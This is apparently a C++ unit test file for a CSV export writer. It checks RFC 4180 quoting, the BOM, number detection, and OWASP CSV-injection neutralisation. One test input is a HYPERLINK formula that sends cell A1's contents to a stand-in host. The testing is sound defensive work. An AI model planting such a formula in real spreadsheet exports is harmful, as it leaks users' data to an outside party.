// Tests for core/model/csv.h: the one CSV writer (docs/exports.md): RFC 4180 fields, the UTF-8 BOM,
// formula neutralisation of the six prefixes OWASP names (= + - @ tab CR) and what "a number" is.
#include <doctest/doctest.h>

#include <string>
#include <string_view>

#include "core/model/csv.h"

using namespace qd;

namespace {

// One field as the writer writes it, without the BOM and the row's CRLF.
std::string Field(std::string_view v)
{
    CsvWriter csv;
    csv.cell(v);
    csv.endRow();
    std::string out = csv.take();
    REQUIRE(out.starts_with(kUtf8Bom));
    REQUIRE(out.ends_with("\r\n"));
    return out.substr(kUtf8Bom.size(), out.size() - kUtf8Bom.size() - 2);
}

}  // namespace

TEST_CASE("a number is an optional minus, digits, and optionally a point with digits")
{
    for (std::string_view n : {"0", "7", "16", "279.41", "-12.30", "-0.01", "-0", "1234567890123.45", "0.5"})
        CHECK_MESSAGE(IsCsvNumber(n), n);
    for (std::string_view n :
         {"",     "-",   "+5", "+12.30", "1e5",   "-1e5", "-.5",    ".5",      "5.",  "-5.", "1,234.00",
          "-2+3", "- 1", " 1", "1 ",     "1.2.3", "0x10", "¥12.00", "12.30元", "--1", "-\t1"})
        CHECK_MESSAGE(!IsCsvNumber(n), n);
}

TEST_CASE("the six formula prefixes are neutralised: a leading quote, and the cell quoted (OWASP CSV injection)")
{
    CHECK(Field("=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")") ==
          "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点我\"\")\"");
    CHECK(Field("+SUM(1,1)") == "\"'+SUM(1,1)\"");
    CHECK(Field("-2+3") == "\"'-2+3\"");
    CHECK(Field("@cmd") == "\"'@cmd\"");
    CHECK(Field("\tTAB") == "\"'\tTAB\"");
    CHECK(Field("\rCR") == "\"'\rCR\"");
    // A lone sign is not a number either.
    CHECK(Field("-") == "\"'-\"");
    CHECK(Field("+") == "\"'+\"");
    CHECK(Field("=") == "\"'=\"");
    for (std::string_view v : {"=1", "+1", "-1+1", "@1", "\t1", "\r1", "-1e5", "+12.30"})
        CHECK_MESSAGE(IsCsvFormulaRisk(v), v);
}

TEST_CASE("numbers stay numbers: negative amounts are written as they are")
{
    CHECK(Field("-12.30") == "-12.30");
    CHECK(Field("-0.01") == "-0.01");
    CHECK(Field("279.41") == "279.41");
    CHECK(Field("16") == "16");
    for (std::string_view v : {"-12.30", "0", "279.41", "", "plain", "订单", "a=b", "x-1", " =padded"})
        CHECK_MESSAGE(!IsCsvFormulaRisk(v), v);
    CsvWriter csv;
    csv.money(Money::FromFen(-1230));
    csv.money(std::nullopt);
    csv.integer(-3);
    csv.endRow();
    CHECK(csv.take() == std::string(kUtf8Bom) + "-12.30,,-3\r\n");
}

TEST_CASE("RFC 4180: commas, quotes, line breaks and edge spaces are quoted; quotes doubled")
{
    CHECK(Field("web,01") == "\"web,01\"");
    CHECK(Field("say \"hi\"") == "\"say \"\"hi\"\"\"");
    CHECK(Field("two\nlines") == "\"two\nlines\"");
    CHECK(Field(" padded ") == "\" padded \"");
    CHECK(Field(" =x") == "\" =x\"");  // not a formula: the first character is a space
    CHECK(Field("plain") == "plain");
    CHECK(Field("") == "");
}

TEST_CASE("rows: comma separated, CRLF ended, one BOM at the start")
{
    CsvWriter csv;
    csv.row({"资源ID", "金额(元)"});
    csv.row({"r1", "-2+3"});
    csv.time(Instant::FromUnixSeconds(0), ZoneOffset::China());
    csv.time(std::nullopt, ZoneOffset::China());
    csv.endRow();
    CHECK(csv.take() ==
          std::string(kUtf8Bom) + "资源ID,金额(元)\r\nr1,\"'-2+3\"\r\n1970/01/01 08:00:00 GMT+08:00,\r\n");
}
